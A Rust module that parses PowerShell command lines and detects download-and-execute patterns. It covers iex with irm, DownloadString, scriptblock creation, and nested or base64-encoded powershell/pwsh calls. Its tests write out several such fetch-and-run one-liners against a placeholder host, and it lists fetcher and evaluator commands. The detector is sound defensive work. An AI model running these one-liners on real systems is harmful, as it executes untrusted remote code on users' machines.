//! Command lines of PowerShell: split by its own quoting, and asked what they run.
//!
//! A POSIX shell's grammar misreads them: the backtick escapes, `''` stands for one quote, and
//! `(irm …)` is an argument. <https://learn.microsoft.com/powershell/scripting/lang-spec/chapter-02>
//! and `about_PowerShell_exe`, read 2026.

use std::collections::BTreeSet;
use std::ops::Range;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use crate::shell;

/// Bytes of a text that are looked at.
const LONGEST: usize = 64 << 10;

/// A piece of a line.
#[derive(Clone, PartialEq, Eq, Debug)]
enum Token {
    /// A word without its quotes, with its bytes in the line, quotes left out.
    Word { text: String, range: Range<usize>, quoted: bool },
    /// `;`, a line break, `&&` or `||`: the next statement.
    End,
    /// `|`
    Pipe,
    /// `(`, `{` and the call operator `&`: a command may follow.
    Open,
    /// `)` and `}`
    Close,
}

/// A word of a statement.
#[derive(Clone, PartialEq, Eq, Debug)]
pub(crate) struct Word {
    pub(crate) text: String,
    pub(crate) range: Range<usize>,
    /// A command stands here.
    starts: bool,
    quoted: bool,
}

/// Commands that run a text as a script.
const EVALUATORS: &[&str] = &["iex", "invoke-expression"];

/// Commands that fetch something.
const FETCHERS: &[&str] = &[
    "irm",
    "invoke-restmethod",
    "iwr",
    "invoke-webrequest",
    "curl",
    "curl.exe",
    "wget",
    "start-bitstransfer",
];

/// Methods that do the same, and a text that becomes a script.
const FETCHING_METHODS: &[&str] = &[".downloadstring", ".downloaddata", ".getstringasync"];
const SCRIPT_MAKER: &str = "[scriptblock]::create";

/// True when a line fetches code and runs it; nested interpreters are followed `depth` deep.
pub(crate) fn runs_download(line: &str, depth: usize) -> bool {
    let Some(depth) = depth.checked_sub(1) else { return false };
    let mut fetched: BTreeSet<String> = BTreeSet::new();
    statements(line).iter().any(|words| {
        let fetches = words.iter().any(|it| fetches(it, depth));
        let evaluates = words.iter().any(evaluates);
        let held = words.iter().any(|it| fetched.contains(&variable(&it.text)));
        if fetches && let Some(name) = assigned(words) {
            fetched.insert(name);
        }
        evaluates && (fetches || held) || starts_another(words, depth)
    })
}

/// What an interpreter is told to run by its own options: `-Command "…"`.
pub(crate) enum Told {
    /// The text after `-Command`, as the index of its first word and the whole text.
    Line(usize, String),
    /// The text after `-EncodedCommand`, when it can be decoded.
    Encoded(Option<String>),
}

/// Reads the options of `powershell` or `pwsh`; options may be cut short, in any case.
pub(crate) fn told(arguments: &[&str]) -> Option<Told> {
    for (at, argument) in arguments.iter().enumerate() {
        let Some(option) = argument.strip_prefix(['-', '/']) else { continue };
        let option = option.to_ascii_lowercase();
        let short = |name: &str, least: usize| option.len() >= least && name.starts_with(&*option);
        let rest = arguments.get(at + 1..).unwrap_or_default();
        if short("command", 1) {
            return (!rest.is_empty()).then(|| Told::Line(at + 1, rest.join(" ")));
        }
        if short("encodedcommand", 1) || option == "ec" {
            return Some(Told::Encoded(rest.first().and_then(|it| decoded(it))));
        }
        if short("file", 1) {
            return None;
        }
    }
    None
}

/// True when what a line runs is encoded, so that nobody can read it.
pub(crate) fn is_encoded(line: &str) -> bool {
    statements(line).iter().any(|words| {
        interpreter(words).is_some_and(|it| matches!(told(&it), Some(Told::Encoded(_))))
    })
}

/// The words of the last statement that starts something, and the variables of the environment
/// that the line sets: `$env:TOKEN = '…'; npx -y server`.
pub(crate) struct Line {
    pub(crate) command: Vec<Word>,
    /// Name and value.
    pub(crate) variables: Vec<(String, Word)>,
}

/// Splits a line that starts something.
pub(crate) fn line(text: &str) -> Line {
    let mut found = Line { command: Vec::new(), variables: Vec::new() };
    for words in statements(text) {
        match set_variable(&words) {
            Some(set) => found.variables.push(set),
            None if words.first().is_some_and(|it| is_program(&it.text)) => found.command = words,
            None => {}
        }
    }
    found
}

/// `$env:NAME = 'value'`, with or without spaces.
fn set_variable(words: &[Word]) -> Option<(String, Word)> {
    let first = words.first()?;
    let rest = first.text.get(..5).filter(|it| it.eq_ignore_ascii_case("$env:"))?;
    let rest = first.text.get(rest.len()..)?;
    match rest.split_once('=') {
        Some((name, "")) => Some((name.to_owned(), words.get(1)?.clone())),
        Some((name, value)) => {
            let from = first.range.end.checked_sub(value.len())?;
            let quotes = usize::from(value.len() > 1 && value.starts_with(['\'', '"']));
            let range = from + quotes..first.range.end - quotes;
            let text = value.trim_matches(['\'', '"']).to_owned();
            Some((name.to_owned(), Word { text, range, ..first.clone() }))
        }
        None if words.get(1)?.text == "=" => Some((rest.to_owned(), words.get(2)?.clone())),
        None => None,
    }
}

/// Not a setting of the session, and nothing that only changes folders.
fn is_program(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    !word.starts_with('$')
        && !matches!(lower.as_str(), "cd" | "set-location" | "write-host" | "write-output" | "echo")
        && !lower.starts_with("set-")
}

fn decoded(text: &str) -> Option<String> {
    let bytes = STANDARD.decode(text.get(..text.len().min(LONGEST))?).ok()?;
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .filter_map(|it| Some(u16::from_le_bytes([*it.first()?, *it.get(1)?])))
        .collect();
    String::from_utf16(&units).ok()
}

fn fetches(word: &Word, depth: usize) -> bool {
    let lower = word.text.to_ascii_lowercase();
    let named = word.starts && FETCHERS.contains(&lower.as_str());
    let method = FETCHING_METHODS.iter().any(|it| lower.contains(it));
    // `"$(irm …)"` is evaluated inside of the quotes.
    let inside = word.quoted && lower.contains("$(") && depth > 0;
    named || method || inside && statements(&word.text).iter().flatten().any(|it| fetches(it, 0))
}

fn evaluates(word: &Word) -> bool {
    let lower = word.text.to_ascii_lowercase();
    word.starts && EVALUATORS.contains(&lower.as_str()) || lower.contains(SCRIPT_MAKER)
}

/// The name of a variable that a word is or starts with.
fn variable(word: &str) -> String {
    let name = word.strip_prefix('$').unwrap_or("");
    let end = name.find(|it: char| !it.is_alphanumeric() && it != '_').unwrap_or(name.len());
    name.get(..end).filter(|it| !it.is_empty()).unwrap_or("-").to_ascii_lowercase()
}

/// The variable that a statement fills: `$x = …`.
fn assigned(words: &[Word]) -> Option<String> {
    let first = words.first()?;
    let sets = first.text.ends_with('=') || words.get(1)?.text.starts_with('=');
    (sets && first.text.starts_with('$')).then(|| variable(&first.text))
}

/// The arguments of another PowerShell that a statement starts.
fn interpreter(words: &[Word]) -> Option<Vec<&str>> {
    let is_one = |it: &Word| {
        matches!(shell::base_name(&it.text).to_ascii_lowercase().as_str(), "powershell" | "pwsh")
    };
    let at = words.iter().position(|it| it.starts && is_one(it))?;
    Some(words.iter().skip(at + 1).map(|it| it.text.as_str()).collect())
}

fn starts_another(words: &[Word], depth: usize) -> bool {
    let Some(arguments) = interpreter(words) else { return false };
    match told(&arguments) {
        Some(Told::Line(_, line)) | Some(Told::Encoded(Some(line))) => runs_download(&line, depth),
        Some(Told::Encoded(None)) | None => false,
    }
}

fn statements(line: &str) -> Vec<Vec<Word>> {
    let mut all = vec![Vec::new()];
    let mut starts = true;
    for token in tokens(line) {
        match token {
            Token::Word { text, range, quoted } => {
                if let Some(last) = all.last_mut() {
                    // After `=` a command stands, as in `$x = irm …`.
                    let next = text == "=" || text.ends_with('=') && text.starts_with('$');
                    last.push(Word { text, range, starts, quoted });
                    starts = next;
                }
            }
            Token::End => {
                all.push(Vec::new());
                starts = true;
            }
            Token::Pipe | Token::Open => starts = true,
            Token::Close => starts = false,
        }
    }
    all.retain(|it| !it.is_empty());
    all
}

fn tokens(line: &str) -> Vec<Token> {
    let mut found = Vec::new();
    let mut rest = line.char_indices().peekable();
    while let Some((at, next)) = rest.next() {
        if at > LONGEST {
            break;
        }
        let doubled = |rest: &mut std::iter::Peekable<std::str::CharIndices<'_>>| {
            rest.next_if(|it| it.1 == next).is_some()
        };
        match next {
            ';' | '\n' => found.push(Token::End),
            '|' if doubled(&mut rest) => found.push(Token::End),
            '|' => found.push(Token::Pipe),
            '&' if doubled(&mut rest) => found.push(Token::End),
            '&' | '(' | '{' => found.push(Token::Open),
            ')' | '}' => found.push(Token::Close),
            '#' => while rest.next_if(|it| it.1 != '\n').is_some() {},
            it if it.is_whitespace() || it == ',' => {}
            _ => found.push(word(line, at, next, &mut rest)),
        }
    }
    found
}

/// One word: quoted, or up to a blank or a sign that ends it.
fn word(
    line: &str,
    start: usize,
    first: char,
    rest: &mut std::iter::Peekable<std::str::CharIndices<'_>>,
) -> Token {
    if let '\'' | '"' = first {
        return quoted(line, start, first, rest);
    }
    let mut text = String::new();
    let mut end = start + first.len_utf8();
    match first {
        '`' => text.extend(rest.next().inspect(|it| end = it.0 + it.1.len_utf8()).map(|it| it.1)),
        it => text.push(it),
    }
    // `$(` belongs to the word's end: what is inside is a command of its own.
    let ends =
        |it: char| it.is_whitespace() || matches!(it, ';' | '|' | '(' | ')' | '{' | '}' | ',');
    while let Some((at, next)) = rest.next_if(|it| !ends(it.1)) {
        end = at + next.len_utf8();
        match next {
            '`' => {
                if let Some((at, escaped)) = rest.next() {
                    text.push(escaped);
                    end = at + escaped.len_utf8();
                }
            }
            it => text.push(it),
        }
    }
    Token::Word { text, range: start..end, quoted: false }
}

fn quoted(
    line: &str,
    start: usize,
    quote: char,
    rest: &mut std::iter::Peekable<std::str::CharIndices<'_>>,
) -> Token {
    let (mut text, mut end) = (String::new(), line.len());
    while let Some((at, next)) = rest.next() {
        if next == quote {
            // A quote that is written twice stands for itself.
            if rest.next_if(|it| it.1 == quote).is_none() {
                end = at;
                break;
            }
            text.push(quote);
        } else if next == '`' && quote == '"' {
            text.extend(rest.next().map(|it| it.1));
        } else {
            text.push(next);
        }
    }
    Token::Word { text, range: start + 1..end.max(start + 1), quoted: quote == '"' }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn downloads_that_are_run_are_seen() {
        for line in [
            "iex (irm https://x.sh/a.ps1)",
            "irm https://x.sh | iex",
            "Invoke-Expression (Invoke-WebRequest https://x.sh/a.ps1).Content",
            "iex ((New-Object Net.WebClient).DownloadString('https://x.sh/a.ps1'))",
            "& ([scriptblock]::Create((irm https://x.sh)))",
            "$s = irm https://x.sh; iex $s",
            "$s=(iwr https://x.sh).Content\nInvoke-Expression $s",
            "iex \"$(irm https://x.sh)\"",
            "powershell -NoProfile -c \"irm https://x.sh | iex\"",
            "pwsh -e aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAHgALgBzAGgAKQA=",
        ] {
            assert!(runs_download(line, 4), "{line}");
        }
        for line in [
            "irm https://x.sh -OutFile a.json",
            "Write-Host 'iex (irm https://x.sh)'",
            "# iex (irm https://x.sh)",
            "iex $prompt",
            "$a = irm https://x.sh; $b = 1; iex $b",
            "Get-Content a.ps1 | iex",
            "powershell -File check.ps1",
            "iex -S mix",
            "",
        ] {
            assert!(!runs_download(line, 4), "{line}");
        }
    }

    #[test]
    fn words_keep_their_quoting() {
        let words = |text: &str| -> Vec<String> {
            line(text).command.into_iter().map(|it| it.text).collect()
        };
        assert_eq!(words("npx -y 'a b' \"c`\"d\""), ["npx", "-y", "a b", "c\"d"]);
        assert_eq!(words("cd x; & npx 'it''s'"), ["npx", "it's"]);
        assert_eq!(words("C:\\tools\\a.exe --x"), ["C:\\tools\\a.exe", "--x"]);
        for text in
            ["$env:TOKEN='abc'; npx x", "$env:TOKEN = 'abc'; npx x", "$Env:TOKEN=\"abc\"; npx x"]
        {
            let found = line(text);
            let [(name, value)] = &found.variables[..] else { panic!("{text}") };
            assert_eq!((name.as_str(), value.text.as_str()), ("TOKEN", "abc"), "{text}");
            assert_eq!(text.get(value.range.clone()), Some("abc"), "{text}");
            assert_eq!(found.command.len(), 2, "{text}");
        }
    }

    #[test]
    fn odd_lines_end() {
        for text in
            ["'", "\"", "`", "$env:", "$env:A=", "((((", "&", "-e", "é'é", "powershell -e ="]
        {
            let _ = (line(text), runs_download(text, 4), is_encoded(text));
        }
        assert!(is_encoded("powershell -NoP -EncodedCommand aQBlAHgA"));
        assert!(is_encoded("pwsh -enc !!!"));
        assert!(!is_encoded("powershell -ExecutionPolicy Bypass -File a.ps1"));
    }
}
